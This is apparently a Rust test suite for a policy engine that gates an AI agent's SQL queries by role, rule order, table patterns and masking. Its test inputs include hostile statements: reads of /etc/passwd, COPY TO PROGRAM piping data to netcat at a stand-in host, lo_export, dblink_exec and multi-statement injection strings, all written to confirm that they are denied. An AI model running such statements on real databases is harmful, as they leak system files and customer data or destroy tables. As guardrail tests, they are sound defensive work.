//! Evaluation.

use std::time::Duration;

use super::super::eval::{Decision, Subject, UNPARSEABLE_RULE, Verdict};
use super::super::facts::ExtractOptions;
use super::super::rules::PolicySet;
use super::{one, policies};

fn roles(r: &[&str]) -> Vec<String> {
    r.iter().map(|s| s.to_string()).collect()
}

/// Decides `sql` (one statement) for an agent with `r` roles on `target`.
fn decide(set: &PolicySet, r: &[&str], target: &str, sql: &str) -> Decision {
    let roles = roles(r);
    let subject = Subject {
        agent: "bot",
        roles: &roles,
    };
    set.decide(&subject, target, &one(sql))
}

fn verdict(set: &PolicySet, r: &[&str], sql: &str) -> &'static str {
    decide(set, r, "db", sql).verdict.name()
}

/// Name of the rule that decided (`"default"` for the policy default).
fn rule(set: &PolicySet, r: &[&str], sql: &str) -> String {
    decide(set, r, "db", sql)
        .rule
        .map_or_else(|| "default".into(), |r| r.to_string())
}

fn query(set: &PolicySet, r: &[&str], sql: &str) -> super::super::eval::QueryDecision {
    let roles = roles(r);
    let subject = Subject {
        agent: "bot",
        roles: &roles,
    };
    set.decide_query(&subject, "db", sql)
}

#[test]
fn example_policy() {
    let set = policies(super::rules::EXAMPLE);
    let analyst = ["analyst"];
    let d = decide(&set, &analyst, "app-db", "SELECT name FROM customers");
    assert_eq!(d.verdict, Verdict::Allow);
    assert_eq!(d.policy.as_deref(), Some("analytics-readonly"));
    assert_eq!(d.rule.as_deref(), Some("customers"));
    assert_eq!(*d.mask, ["pii"]);
    assert!(!d.shadow);

    let d = decide(&set, &analyst, "app-db", "DROP TABLE customers");
    assert_eq!(
        d.verdict,
        Verdict::Deny {
            message: "schema changes are not allowed".into()
        }
    );
    assert!(d.mask.is_empty());

    let d = decide(
        &set,
        &analyst,
        "app-db",
        "SELECT pg_catalog.pg_read_file('/etc/passwd')",
    );
    assert_eq!(d.rule.as_deref(), Some("dangerous-functions"));
    assert_eq!(
        d.verdict,
        Verdict::Deny {
            message: "denied by rule \"dangerous-functions\" of policy \"analytics-readonly\""
                .into()
        }
    );

    let d = decide(
        &set,
        &analyst,
        "app-db",
        "COPY customers TO PROGRAM 'nc evil 1'",
    );
    assert_eq!(d.rule.as_deref(), Some("copy-program"));

    let d = decide(&set, &analyst, "app-db", "DELETE FROM customers");
    assert_eq!(
        d.verdict,
        Verdict::Review {
            timeout: Duration::from_secs(300)
        }
    );
    assert_eq!(d.rule.as_deref(), Some("unbounded-writes"));

    // Nothing matches: the policy's default and message.
    let d = decide(&set, &analyst, "app-db", "SELECT * FROM orders");
    assert_eq!(d.rule, None);
    assert_eq!(
        d.verdict,
        Verdict::Deny {
            message: "not allowed by policy".into()
        }
    );
}

const ORDERED: &str = r#"
policies:
  - name: p
    roles: [dev]
    targets: [db]
    rules:
      - { name: deny-secrets, match: { tables: [secrets] }, action: deny }
      - { name: reads, match: { kinds: [select] }, action: allow }
      - { name: deny-reads, match: { kinds: [select] }, action: deny }
"#;

#[test]
fn first_matching_rule_wins() {
    let set = policies(ORDERED);
    assert_eq!(rule(&set, &["dev"], "SELECT * FROM t"), "reads");
    assert_eq!(verdict(&set, &["dev"], "SELECT * FROM t"), "allow");
    assert_eq!(
        rule(&set, &["dev"], "SELECT * FROM secrets"),
        "deny-secrets"
    );
    assert_eq!(verdict(&set, &["dev"], "SELECT * FROM secrets"), "deny");
    // Reordering changes the outcome.
    let reordered = policies(
        r#"
policies:
  - name: p
    roles: [dev]
    targets: [db]
    rules:
      - { name: reads, match: { kinds: [select] }, action: allow }
      - { name: deny-secrets, match: { tables: [secrets] }, action: deny }
"#,
    );
    assert_eq!(
        verdict(&reordered, &["dev"], "SELECT * FROM secrets"),
        "allow"
    );
}

#[test]
fn default_deny_and_default_allow() {
    let set = policies(ORDERED);
    let d = decide(&set, &["dev"], "db", "INSERT INTO t VALUES (1)");
    assert_eq!(d.rule, None);
    assert_eq!(d.policy.as_deref(), Some("p"));
    assert_eq!(
        d.verdict,
        Verdict::Deny {
            message: "not allowed by policy \"p\": no rule allows it".into()
        }
    );

    let set = policies(
        r#"
policies:
  - name: open
    roles: [dev]
    targets: [db]
    default: allow
    mask: [emails]
    rules:
      - { name: no-ddl, match: { kinds: [ddl] }, action: deny }
"#,
    );
    let d = decide(&set, &["dev"], "db", "INSERT INTO t VALUES (1)");
    assert_eq!(
        (d.verdict, d.rule, d.mask),
        (Verdict::Allow, None, vec!["emails".to_string()].into())
    );
    assert_eq!(verdict(&set, &["dev"], "CREATE TABLE x (a int)"), "deny");
}

#[test]
fn no_applicable_policy() {
    let set = policies(ORDERED);
    for (r, target) in [
        (&["ops"][..], "db"),
        (&["dev"][..], "other-db"),
        (&[][..], "db"),
    ] {
        let d = decide(&set, r, target, "SELECT 1");
        assert_eq!(d.policy, None);
        assert_eq!(d.rule, None);
        assert_eq!(
            d.verdict,
            Verdict::Deny {
                message: format!("no policy grants agent \"bot\" access to target \"{target}\"")
            }
        );
    }
    // An empty policy set denies everything.
    let empty = super::super::rules::compile(vec![]).unwrap();
    assert_eq!(verdict(&empty, &["dev"], "SELECT 1"), "deny");
}

#[test]
fn wildcard_roles_and_targets() {
    let set = policies(
        r#"
policies:
  - name: everyone
    roles: ["*"]
    targets: [db]
    default: allow
  - name: anywhere
    roles: [dev]
    targets: ["*"]
    default: allow
"#,
    );
    assert_eq!(
        decide(&set, &[], "db", "SELECT 1").policy.as_deref(),
        Some("everyone")
    );
    assert_eq!(
        decide(&set, &["x"], "db", "SELECT 1").policy.as_deref(),
        Some("everyone")
    );
    assert_eq!(
        decide(&set, &["dev"], "elsewhere", "SELECT 1")
            .policy
            .as_deref(),
        Some("anywhere")
    );
    assert_eq!(decide(&set, &["x"], "elsewhere", "SELECT 1").policy, None);
}

#[test]
fn first_applicable_policy_decides() {
    let set = policies(
        r#"
policies:
  - name: strict
    roles: [intern]
    targets: [db]
    default: deny
  - name: lenient
    roles: [dev, intern]
    targets: [db]
    default: allow
"#,
    );
    let d = decide(&set, &["dev", "intern"], "db", "SELECT 1");
    assert_eq!(d.policy.as_deref(), Some("strict"));
    assert_eq!(d.verdict.name(), "deny");
    let d = decide(&set, &["dev"], "db", "SELECT 1");
    assert_eq!(d.policy.as_deref(), Some("lenient"));
    assert_eq!(d.verdict, Verdict::Allow);
}

const SHADOW: &str = r#"
policies:
  - name: trial
    roles: [dev]
    targets: [db]
    mode: shadow
    rules:
      - { name: reads, match: { kinds: [select] }, action: allow }
"#;

#[test]
fn shadow_mode_records_but_does_not_block() {
    let set = policies(SHADOW);
    let d = decide(&set, &["dev"], "db", "DROP TABLE t");
    assert!(d.shadow);
    assert_eq!(d.verdict.name(), "deny");
    assert_eq!(d.enforced_verdict(), Verdict::Allow);

    let q = query(&set, &["dev"], "SELECT 1; DROP TABLE t");
    assert_eq!(q.decision.verdict.name(), "deny");
    assert!(q.decision.shadow);
    assert_eq!(q.enforced_verdict(), Verdict::Allow);

    // Enforced mode blocks.
    let set = policies(ORDERED);
    let d = decide(&set, &["dev"], "db", "DROP TABLE t");
    assert!(!d.shadow);
    assert_eq!(d.enforced_verdict(), d.verdict);
    assert_eq!(d.enforced_verdict().name(), "deny");
}

const REVIEW: &str = r#"
policies:
  - name: p
    roles: [dev]
    targets: [db]
    mask: [pii]
    rules:
      - { name: ddl, match: { kinds: [ddl] }, action: deny }
      - { name: mass-delete, match: { kinds: [delete], without_where: true }, action: review, timeout: 10m }
      - { name: mass-update, match: { kinds: [update], without_where: true }, action: review }
      - { name: rest, match: any, action: allow }
"#;

#[test]
fn review_timeouts() {
    let set = policies(REVIEW);
    let d = decide(&set, &["dev"], "db", "DELETE FROM t");
    assert_eq!(
        d.verdict,
        Verdict::Review {
            timeout: Duration::from_secs(600)
        }
    );
    assert_eq!(*d.mask, ["pii"]);
    let d = decide(&set, &["dev"], "db", "UPDATE t SET a = 1");
    assert_eq!(
        d.verdict,
        Verdict::Review {
            timeout: Duration::from_secs(300)
        }
    );
    assert_eq!(
        verdict(&set, &["dev"], "DELETE FROM t WHERE id = 1"),
        "allow"
    );
    assert_eq!(
        serde_json::to_value(&d.verdict).unwrap(),
        serde_json::json!({ "kind": "review", "timeout": "5m" })
    );
}

#[test]
fn query_combines_statement_decisions() {
    let set = policies(REVIEW);
    // Any denial denies the whole query.
    let q = query(&set, &["dev"], "DELETE FROM t; DROP TABLE t; SELECT 1");
    assert_eq!(q.statements.len(), 3);
    assert_eq!(q.statements[0].decision.verdict.name(), "review");
    assert_eq!(q.statements[1].decision.verdict.name(), "deny");
    assert_eq!(q.statements[2].decision.verdict.name(), "allow");
    assert_eq!(q.decision.rule.as_deref(), Some("ddl"));
    assert_eq!(
        q.decision.verdict,
        Verdict::Deny {
            message: "statement 2 of 3: denied by rule \"ddl\" of policy \"p\"".into()
        }
    );
    // Review when none is denied.
    let q = query(&set, &["dev"], "SELECT 1; DELETE FROM t");
    assert_eq!(
        q.decision.verdict,
        Verdict::Review {
            timeout: Duration::from_secs(600)
        }
    );
    assert_eq!(q.decision.rule.as_deref(), Some("mass-delete"));
    // All allowed.
    let q = query(&set, &["dev"], "SELECT 1; SELECT 2");
    assert_eq!(q.decision.verdict, Verdict::Allow);
    assert_eq!(q.decision.rule.as_deref(), Some("rest"));
    assert_eq!(*q.decision.mask, ["pii"]);
    assert_eq!(q.parse_error, None);
}

#[test]
fn multi_statement_smuggling_is_denied_as_a_whole() {
    let set = policies(
        r#"
policies:
  - name: readonly
    roles: [analyst]
    targets: [db]
    rules:
      - { name: reads, match: { kinds: [select] }, action: allow }
"#,
    );
    for sql in [
        "select 1; drop table x",
        "SELECT * FROM t; DELETE FROM t",
        "SELECT '\\'; DROP TABLE x; --'",
        "SELECT 1; DO $$ BEGIN EXECUTE 'DROP TABLE x'; END $$",
        "WITH x AS (DELETE FROM secrets RETURNING *) SELECT * FROM x",
        "EXPLAIN ANALYZE DELETE FROM t",
        "SELECT * INTO copy_of_t FROM t",
    ] {
        let q = query(&set, &["analyst"], sql);
        assert_eq!(q.enforced_verdict().name(), "deny", "{sql}");
    }
    assert_eq!(
        query(&set, &["analyst"], "SELECT 1; SELECT 2").enforced_verdict(),
        Verdict::Allow
    );
}

#[test]
fn unparseable_and_empty_queries() {
    let set = policies(ORDERED);
    let q = query(&set, &["dev"], "SELEC * FROM t");
    assert_eq!(q.decision.rule.as_deref(), Some(UNPARSEABLE_RULE));
    assert_eq!(q.decision.policy.as_deref(), Some("p"));
    let Verdict::Deny { message } = &q.decision.verdict else {
        panic!("expected deny");
    };
    assert!(message.starts_with("cannot parse SQL: "), "{message}");
    assert!(q.parse_error.as_deref().unwrap().contains("SELEC"));
    assert!(q.statements.is_empty());

    // A valid statement does not rescue an unparseable one.
    let q = query(&set, &["dev"], "SELECT 1; SELEC 2");
    assert_eq!(q.enforced_verdict().name(), "deny");

    // Shadow mode: recorded, not enforced.
    let q = query(&policies(SHADOW), &["dev"], "SELEC 1");
    assert_eq!(q.decision.verdict.name(), "deny");
    assert_eq!(q.enforced_verdict(), Verdict::Allow);

    // No policy: the no-policy denial.
    let q = query(&set, &["nobody"], "SELEC 1");
    assert_eq!(q.decision.rule, None);
    assert_eq!(q.decision.verdict.name(), "deny");

    // Empty query: nothing to run.
    for sql in ["", " ; ", "-- just a comment"] {
        let q = query(&set, &["dev"], sql);
        assert_eq!(q.enforced_verdict(), Verdict::Allow, "{sql:?}");
        assert!(q.statements.is_empty());
    }
}

#[test]
fn standard_conforming_strings_option() {
    let set = policies(ORDERED);
    let roles = roles(&["dev"]);
    let subject = Subject {
        agent: "bot",
        roles: &roles,
    };
    let sql = r"SELECT 'a\' , '; DROP TABLE x; --'";
    assert_eq!(
        set.decide_query(&subject, "db", sql).enforced_verdict(),
        Verdict::Allow
    );
    let off = ExtractOptions {
        standard_conforming_strings: false,
    };
    let q = set.decide_query_with(&subject, "db", sql, &off);
    assert_eq!(q.decision.rule.as_deref(), Some(UNPARSEABLE_RULE));
}

#[test]
fn table_patterns() {
    let set = policies(
        r#"
policies:
  - name: p
    roles: [dev]
    targets: [db]
    rules:
      - { name: public-schema, match: { tables: ["public.*"] }, action: allow }
      - { name: bare, match: { tables: [orders] }, action: allow }
      - { name: quoted, match: { tables: ['"Sales"."Q1"'] }, action: allow }
      - { name: folded, match: { tables: [Sales.Q2] }, action: allow }
      - { name: glob, match: { tables: ["pgbench_*"] }, action: allow }
"#,
    );
    let cases = [
        ("SELECT * FROM customers", "public-schema"),
        ("SELECT * FROM public.customers", "public-schema"),
        ("SELECT * FROM PUBLIC.Customers", "public-schema"),
        ("SELECT * FROM \"Public\".customers", "default"),
        ("SELECT * FROM crm.customers", "default"),
        ("SELECT * FROM orders", "public-schema"),
        ("SELECT * FROM shop.orders", "bare"),
        ("SELECT * FROM \"Sales\".\"Q1\"", "quoted"),
        ("SELECT * FROM Sales.Q1", "default"),
        ("SELECT * FROM sales.q2", "folded"),
        ("SELECT * FROM \"Sales\".\"Q2\"", "default"),
        ("SELECT * FROM bench.pgbench_accounts", "glob"),
        ("SELECT * FROM bench.pgbench", "default"),
    ];
    for (sql, expected) in cases {
        assert_eq!(rule(&set, &["dev"], sql), expected, "{sql}");
    }
}

#[test]
fn unqualified_pg_names_may_be_pg_catalog() {
    let set = policies(
        r#"
policies:
  - name: p
    roles: [dev]
    targets: [db]
    rules:
      - { name: no-catalog-secrets, match: { tables: [pg_catalog.pg_authid] }, action: deny }
      - { name: public-only, match: { tables_only: ["public.*"] }, action: allow }
"#,
    );
    assert_eq!(
        rule(&set, &["dev"], "SELECT * FROM pg_authid"),
        "no-catalog-secrets"
    );
    // pg_class resolves to pg_catalog.pg_class: not in the public allow-list.
    assert_eq!(rule(&set, &["dev"], "SELECT * FROM pg_class"), "default");
    assert_eq!(
        rule(&set, &["dev"], "SELECT * FROM accounts"),
        "public-only"
    );
}

#[test]
fn search_path_rule() {
    let set = policies(
        r#"
policies:
  - name: p
    roles: [dev]
    targets: [db]
    rules:
      - { name: pin-search-path, match: { sets_search_path: true }, action: deny }
      - { name: session, match: { kinds: [set] }, action: allow }
      - { name: public-only, match: { tables_only: ["public.*"] }, action: allow }
"#,
    );
    let q = query(
        &set,
        &["dev"],
        "SET search_path = secret; SELECT * FROM data",
    );
    assert_eq!(q.decision.rule.as_deref(), Some("pin-search-path"));
    assert_eq!(q.enforced_verdict().name(), "deny");
    assert_eq!(
        rule(&set, &["dev"], "SET application_name = 'x'"),
        "session"
    );
    assert_eq!(
        rule(
            &set,
            &["dev"],
            "SELECT set_config('search_path', 'secret', false)"
        ),
        "pin-search-path"
    );
}

#[test]
fn tables_only_is_an_allow_list() {
    let set = policies(
        r#"
policies:
  - name: p
    roles: [dev]
    targets: [db]
    rules:
      - { name: app, match: { tables_only: ["app.*", "public.lookup"], access: read }, action: allow }
"#,
    );
    let cases = [
        ("SELECT * FROM app.a JOIN app.b ON true", "allow"),
        ("SELECT * FROM app.a JOIN lookup ON true", "allow"),
        ("SELECT * FROM app.a JOIN secret.b ON true", "deny"),
        (
            "SELECT * FROM app.a WHERE x IN (SELECT x FROM secret.b)",
            "deny",
        ),
        ("UPDATE app.a SET x = 1 WHERE id = 1", "deny"),
        ("SELECT now()", "allow"),
        ("DO $$ BEGIN NULL; END $$", "deny"),
        ("EXECUTE p", "deny"),
        ("DROP SCHEMA app CASCADE", "deny"),
    ];
    for (sql, expected) in cases {
        assert_eq!(verdict(&set, &["dev"], sql), expected, "{sql}");
    }
    // `tables` only needs one matching table.
    let any = policies(
        r#"
policies:
  - name: p
    roles: [dev]
    targets: [db]
    rules:
      - { name: app, match: { tables: ["app.*"] }, action: allow }
"#,
    );
    assert_eq!(
        verdict(&any, &["dev"], "SELECT * FROM app.a JOIN secret.b ON true"),
        "allow"
    );
    assert_eq!(verdict(&any, &["dev"], "SELECT now()"), "deny");
}

#[test]
fn kinds_in_allow_rules_must_cover_every_kind() {
    let set = policies(
        r#"
policies:
  - name: p
    roles: [dev]
    targets: [db]
    rules:
      - { name: no-delete, match: { kinds: [delete] }, action: deny }
      - { name: read-insert, match: { kinds: [select, insert] }, action: allow }
"#,
    );
    let cases = [
        ("SELECT 1", "read-insert"),
        ("INSERT INTO t SELECT * FROM s", "read-insert"),
        (
            "WITH x AS (SELECT 1) INSERT INTO t SELECT * FROM x",
            "read-insert",
        ),
        (
            "WITH i AS (INSERT INTO t VALUES (1) RETURNING *) SELECT * FROM i",
            "read-insert",
        ),
        // A delete anywhere is caught by the deny rule ...
        (
            "WITH d AS (DELETE FROM t RETURNING *) INSERT INTO log SELECT * FROM d",
            "no-delete",
        ),
        ("PREPARE p AS DELETE FROM t", "no-delete"),
        // ... and an update is not admitted by the allow rule.
        (
            "WITH u AS (UPDATE t SET a = 1 RETURNING *) SELECT * FROM u",
            "default",
        ),
    ];
    for (sql, expected) in cases {
        assert_eq!(rule(&set, &["dev"], sql), expected, "{sql}");
    }
}

#[test]
fn access_conditions() {
    let set = policies(
        r#"
policies:
  - name: p
    roles: [dev]
    targets: [db]
    rules:
      - { name: no-audit-writes, match: { tables: [audit], access: write }, action: deny }
      - { name: read-only, match: { access: read }, action: allow }
"#,
    );
    let cases = [
        ("SELECT * FROM audit", "read-only"),
        ("INSERT INTO audit VALUES (1)", "no-audit-writes"),
        ("INSERT INTO t SELECT * FROM audit", "default"),
        ("SELECT * FROM a JOIN b ON true", "read-only"),
        ("UPDATE t SET a = (SELECT 1 FROM s) WHERE id = 1", "default"),
    ];
    for (sql, expected) in cases {
        assert_eq!(rule(&set, &["dev"], sql), expected, "{sql}");
    }
}

#[test]
fn function_rules() {
    let set = policies(
        r#"
policies:
  - name: p
    roles: [dev]
    targets: [db]
    default: allow
    rules:
      - { name: files, match: { functions: [pg_read_file, "lo_*", dblink*] }, action: deny }
"#,
    );
    for sql in [
        "SELECT pg_read_file('/etc/passwd')",
        "SELECT PG_CATALOG.PG_READ_FILE('/etc/passwd')",
        "SELECT * FROM pg_read_file('/etc/passwd')",
        "SELECT length(pg_read_file('/etc/passwd'))",
        "SELECT * FROM t WHERE x IN (SELECT lo_export(1, '/tmp/x'))",
        "SELECT * FROM dblink_exec('host=x', 'DROP TABLE y')",
        "DO $$ BEGIN PERFORM pg_read_file('/etc/passwd'); END $$",
    ] {
        assert_eq!(rule(&set, &["dev"], sql), "files", "{sql}");
    }
    for sql in [
        "SELECT \"PG_READ_FILE\"('x')",
        "SELECT read_file('x')",
        "SELECT 1",
    ] {
        assert_eq!(rule(&set, &["dev"], sql), "default", "{sql}");
    }
}

#[test]
fn copy_and_flag_rules() {
    let set = policies(
        r#"
policies:
  - name: p
    roles: [dev]
    targets: [db]
    default: allow
    rules:
      - { name: program, match: { copy_program: true }, action: deny }
      - { name: file, match: { copy_file: true }, action: deny }
      - { name: explain-analyze-writes, match: { explain: true, kinds: [update, delete, insert, merge] }, action: review }
      - { name: opaque, match: { opaque: true }, action: deny }
"#,
    );
    let cases = [
        ("COPY t TO PROGRAM 'x'", "program"),
        ("COPY t FROM PROGRAM 'x'", "program"),
        ("COPY (SELECT * FROM t) TO '/tmp/f'", "file"),
        ("COPY t FROM '/tmp/f'", "file"),
        ("COPY t TO STDOUT", "default"),
        ("COPY t FROM STDIN", "default"),
        ("EXPLAIN ANALYZE DELETE FROM t", "explain-analyze-writes"),
        ("EXPLAIN SELECT 1", "default"),
        ("EXECUTE p(1)", "opaque"),
        ("DO $$ BEGIN NULL; END $$", "opaque"),
    ];
    for (sql, expected) in cases {
        assert_eq!(rule(&set, &["dev"], sql), expected, "{sql}");
    }
}

#[test]
fn masks() {
    let set = policies(
        r#"
policies:
  - name: p
    roles: [dev]
    targets: [db]
    mask: [pii]
    rules:
      - { name: cards, match: { tables: [cards] }, action: allow, mask: [pii, pan] }
      - { name: public, match: { tables: [lookup] }, action: allow, mask: [] }
      - { name: rest, match: any, action: allow }
"#,
    );
    assert_eq!(
        *decide(&set, &["dev"], "db", "SELECT * FROM cards").mask,
        ["pii", "pan"]
    );
    assert!(
        decide(&set, &["dev"], "db", "SELECT * FROM lookup")
            .mask
            .is_empty()
    );
    assert_eq!(
        *decide(&set, &["dev"], "db", "SELECT * FROM t").mask,
        ["pii"]
    );
    let q = query(
        &set,
        &["dev"],
        "SELECT * FROM lookup; SELECT * FROM t; SELECT * FROM cards",
    );
    assert_eq!(*q.decision.mask, ["pii", "pan"]);
    // Different rules: no single rule for the query.
    assert_eq!(q.decision.rule, None);
}

#[test]
fn decisions_serialize_for_recording() {
    let set = policies(ORDERED);
    let q = query(&set, &["dev"], "SELECT * FROM secrets");
    let json = serde_json::to_value(&q).unwrap();
    assert_eq!(json["decision"]["verdict"]["kind"], "deny");
    assert_eq!(json["decision"]["rule"], "deny-secrets");
    assert_eq!(json["statements"][0]["facts"]["kind"], "select");
    assert_eq!(json["statements"][0]["decision"]["policy"], "p");
}
